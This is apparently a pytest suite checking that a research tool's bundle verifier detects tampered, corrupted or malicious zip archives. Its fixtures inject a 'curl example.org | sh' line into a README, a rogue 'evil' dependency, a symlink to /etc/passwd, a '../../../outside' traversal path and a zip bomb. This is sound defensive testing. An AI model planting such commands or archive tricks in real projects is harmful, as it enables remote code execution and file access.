"""A bundle that was changed, or is damaged, is found; nothing that its run does not name is unpacked."""

from __future__ import annotations

import random
import shutil
import stat
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from biascore import Engine, Run
from biascore.archive.bundle import write_bundle
from biascore.archive.opening import opened
from biascore.archive.verify import verify_run
from biascore.errors import RunError

TOP = "biascore-bundle/"
Change = Callable[[dict[str, bytes]], None]


@pytest.fixture(scope="module")
def packed(measured: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    study = Path(shutil.copytree(measured, tmp_path_factory.mktemp("packing") / "study"))
    return write_bundle(study / "audit-run", study / "packed.zip").path


@pytest.fixture(autouse=True)
def elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Not in the folder of the study, in which its inputs would be found."""
    monkeypatch.chdir(tmp_path)


def members(packed: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(packed) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(path: Path, content: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, value in content.items():
            archive.writestr(name, value)
    return path


def differing(path: Path) -> dict[str, str]:
    return {check.what: check.detail for check in verify_run(path) if check.outcome == "differs"}


def changed(name: str, old: str, new: str) -> Change:
    def change(content: dict[str, bytes]) -> None:
        assert old.encode() in content[TOP + name]
        content[TOP + name] = content[TOP + name].replace(old.encode(), new.encode())

    return change


def added(name: str, value: bytes = b"x") -> Change:
    return lambda content: content.update({name: value})


def removed(name: str) -> Change:
    return lambda content: content.pop(TOP + name) and None


def unmarked(content: dict[str, bytes]) -> None:
    content[TOP + "README.md"] = b"x"
    content[TOP + "audit.toml"] = b'title = "x"'


CHANGES: dict[str, Change] = {
    "README.md": changed("README.md", "biascore verify", "curl example.org | sh; biascore verify"),
    "audit.toml": unmarked,
    "constraints.txt": changed("constraints.txt", "biascore==", "evil==6.6.6\nbiascore=="),
    "software.cdx.json": changed("software.cdx.json", '"numpy"', '"numpie"'),
    "stimuli/en/own.toml": changed("stimuli/en/own.toml", "pets", "cats"),
    "stimuli/en/evil.toml": added(f"{TOP}stimuli/en/evil.toml"),
    "data/setup.py": added(f"{TOP}data/setup.py"),
    "run/items/9999-x.parquet": added(f"{TOP}run/items/9999-x.parquet"),
    "run/report.html": added(f"{TOP}run/report.html"),
}


@pytest.mark.parametrize("unpacked", [False, True])
@pytest.mark.parametrize("name", CHANGES)
def test_what_does_not_follow_from_the_run_differs(
    name: str, unpacked: bool, packed: Path, tmp_path: Path
) -> None:
    assert not differing(packed)
    content = members(packed)
    CHANGES[name](content)
    path = zipped(tmp_path / "changed.zip", content)
    if unpacked:
        with zipfile.ZipFile(path) as archive:
            archive.extractall(tmp_path / "unpacked")
        path = tmp_path / "unpacked" / TOP
    assert name in differing(path)


@pytest.mark.parametrize("name", ["README.md", "audit.toml", "constraints.txt", "software.cdx.json"])
def test_what_is_missing_differs(name: str, packed: Path, tmp_path: Path) -> None:
    content = members(packed)
    removed(name)(content)
    assert differing(zipped(tmp_path / "changed.zip", content)) == {name: "is missing"}


def test_links_paths_and_doubles_differ(packed: Path, tmp_path: Path) -> None:
    path = zipped(tmp_path / "changed.zip", members(packed))
    link = zipfile.ZipInfo(f"{TOP}stimuli/en/link.toml")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(link, "/etc/passwd")
        archive.writestr("../../../outside", "x")
        with pytest.warns(UserWarning, match="Duplicate name"):
            archive.writestr(f"{TOP}README.md", "x")
    found = differing(path)
    assert set(found) == {"stimuli/en/link.toml", "../../../outside", "README.md"}
    assert "link" in found["stimuli/en/link.toml"]


def test_a_link_in_an_unpacked_bundle_differs(packed: Path, tmp_path: Path) -> None:
    with zipfile.ZipFile(packed) as archive:
        archive.extractall(tmp_path)
    (tmp_path / TOP / "data" / "link").symlink_to("/etc/passwd")
    assert set(differing(tmp_path / TOP)) == {"data/link"}


@pytest.mark.parametrize(
    "name",
    [
        "zeros.bin",
        "run/items/0000-weat-en-pets.parquet",
        *(pytest.param(one, marks=pytest.mark.slow) for one in ("run/run.json", "data/pairs.csv")),
    ],
)
def test_a_bomb_is_not_unpacked(
    name: str, packed: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    content = members(packed) | {TOP + name: bytes(1 << 27)}
    path = zipped(tmp_path / "bomb.zip", content)
    del content
    sizes: list[int] = []
    write = Path.write_bytes
    monkeypatch.setattr(Path, "write_bytes", lambda self, data: sizes.append(len(data)) or write(self, data))
    assert name in differing(path)
    assert sum(sizes) < 1 << 26
    assert not list(scratch.iterdir())


def test_many_members_are_counted(packed: Path, tmp_path: Path) -> None:
    content = members(packed) | {f"{TOP}data/{number}": b"" for number in range(2000)}
    found = differing(zipped(tmp_path / "many.zip", content))
    assert len(found) < 20
    assert "1990 more members" in found


def test_damage_is_a_verdict(packed: Path, tmp_path: Path) -> None:
    whole = packed.read_bytes()
    chance = random.Random(7)
    path = tmp_path / "damaged.zip"
    found = 0
    for _ in range(25):
        place = chance.randrange(100, len(whole))
        path.write_bytes(
            whole[:place] + bytes([whole[place] ^ 1 << chance.randrange(8)]) + whole[place + 1 :]
        )
        found += bool(differing(path))
    assert found >= 12  # what is left lies in dates and other headers that say nothing
    path.write_bytes(whole[: len(whole) // 2])
    assert "damaged" in differing(path)["damaged.zip"]


@pytest.mark.parametrize("method", [1, 12, 14, 99])
def test_other_compressions_and_encryption_are_a_verdict(method: int, packed: Path, tmp_path: Path) -> None:
    whole = bytearray(packed.read_bytes())
    start, central = whole.index(b"PK\x03\x04"), whole.index(b"PK\x01\x02")
    if method == 1:  # the flag of encryption
        whole[start + 6] |= 1
        whole[central + 8] |= 1
    else:
        whole[start + 8] = whole[central + 10] = method
    path = tmp_path / "damaged.zip"
    path.write_bytes(whole)
    assert "damaged" in differing(path)["README.md"]


def test_no_message_names_the_folder_that_is_gone(packed: Path, tmp_path: Path) -> None:
    content = members(packed)
    content[f"{TOP}stimuli/en/own.toml"] = b"not = [valid"
    content[f"{TOP}data/pairs.csv"] = b"\0"
    for check in verify_run(zipped(tmp_path / "changed.zip", content), models=True):
        assert tempfile.gettempdir() + "/biascore-" not in check.what + check.detail


def test_it_does_not_depend_on_the_machine(packed: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A reader has other versions of packages."""
    monkeypatch.setattr("importlib.metadata.Distribution.version", property(lambda _: "9.9.9"))
    outcomes = {check.what: check.outcome for check in verify_run(packed)}
    assert outcomes["constraints.txt"] == "matches"


def test_a_run_names_the_lists_that_a_model_was_planted_on(measured: Path, tmp_path: Path) -> None:
    study = Path(shutil.copytree(measured, tmp_path / "study"))
    own = (study / "mine" / "en" / "own.toml").read_text(encoding="utf-8")
    (study / "mine" / "en" / "more.toml").write_text(own.replace("pets", "toys"), encoding="utf-8")
    run = Engine(cache=None).run(study / "audit.toml")
    assert "mine/en/more.toml" in {used.file for used in run.stimuli}
    bundle = write_bundle(run.save(study / "new"), study / "new.zip").path
    assert {check.outcome for check in verify_run(bundle, models=True)} == {"matches"}


def test_a_zip_that_is_no_bundle_is_refused(tmp_path: Path) -> None:
    with pytest.raises(RunError, match="is no bundle"):
        verify_run(zipped(tmp_path / "other.zip", {"a": b"b"}))


def test_a_run_of_before_is_read(packed: Path) -> None:
    """Without the versions of what its packages require."""
    with zipfile.ZipFile(packed) as archive:
        archive.extractall(".")
    run = Run.load(Path(TOP, "run"))
    assert run.provenance.required["numpy"] == run.provenance.packages["numpy"]
    assert not run.provenance.model_validate(run.provenance.model_dump(exclude={"required"})).required


def test_a_member_that_is_too_large_costs_no_other(packed: Path, tmp_path: Path) -> None:
    content = {**members(packed), TOP + "data/large": bytes(17 << 20), TOP + "data/small": b"x"}
    with opened(zipped(tmp_path / "made.zip", content)) as found:
        found.unpack(["data/large", "data/small"])
        assert found.top is not None
        assert (found.top / "data/small").read_bytes() == b"x"
        assert list(found.damaged) == ["data/large"]
